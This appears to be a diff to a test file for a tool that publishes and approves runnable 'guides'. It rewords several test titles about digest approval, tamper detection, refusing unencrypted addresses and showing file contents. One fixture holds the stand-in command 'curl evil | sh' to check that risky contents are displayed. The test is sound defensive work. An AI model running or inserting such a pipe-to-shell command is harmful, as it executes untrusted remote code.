@@ -49,7 +49,7 @@ test('on each of its pages the steps of a guide can run', async (t) => {
   assert.match(body, /<guide-block[^>]* data-id="hello"[^]*<guide-block[^>]* data-id="more"/);
 });
 
-test('nothing is approved without a person, but by its digest', async (t) => {
+test('without a person, nothing is approved except by its digest', async (t) => {
   const host = await startHost(t);
   await host.publish(GUIDE);
   const user = teammate(t);
@@ -68,7 +68,7 @@ test('a guide that is more than text is not even asked about', async (t) => {
   assert.match(complained, /index\.md:5: HTML: a guide from another host cannot contain that/);
 });
 
-test('hashes that do not fit the text are said, and nothing is approved', async (t) => {
+test('hashes that do not match the text are reported, and nothing is approved', async (t) => {
   const host = await startHost(t);
   await host.publish(GUIDE, { tamper: (manifest) => manifest.replace('echo hello', 'echo other') });
   const { code, asked, complained } = await teammate(t).connect(host.page, 'y');
@@ -76,7 +76,7 @@ test('hashes that do not fit the text are said, and nothing is approved', async 
   assert.match(complained, /reads this guide differently/);
 });
 
-test('an address that is no Guidepost site is refused with what it is instead', async (t) => {
+test('an address that is not a Guidepost site is refused, and the error says what it is', async (t) => {
   const host = await startHost(t);
   const user = teammate(t);
   const refused = async (manifest: string | null, status = 200, headers = {}) => {
@@ -98,7 +98,7 @@ test('an address that is no Guidepost site is refused with what it is instead', 
   assert.deepEqual(user.kept(), []);
 });
 
-test('an address that is none, or not private on its way, is refused before anything is fetched', async (t) => {
+test('an address that is malformed or not encrypted is refused before anything is fetched', async (t) => {
   const user = teammate(t);
   await assert.rejects(user.connect('http://docs.example.com/', 'y'), /should begin with https: over http/);
   for (const address of ['docs.example.com', 'ftp://docs.example.com/', 'https://me:pass@docs.example.com/'])
@@ -114,7 +114,7 @@ test('each page of a guide leads to the same approval', async (t) => {
     assert.deepEqual((await user.connect(host.page + further)).blocks, ['hello']);
 });
 
-test('what stands in the files of a guide is shown when it is asked for', async (t) => {
+test('the content of a guide’s files is shown on request', async (t) => {
   const host = await startHost(t);
   await host.publish(GUIDE, { file: 'curl evil | sh' });
   const { said, asked } = await teammate(t).connect(host.page, 's');
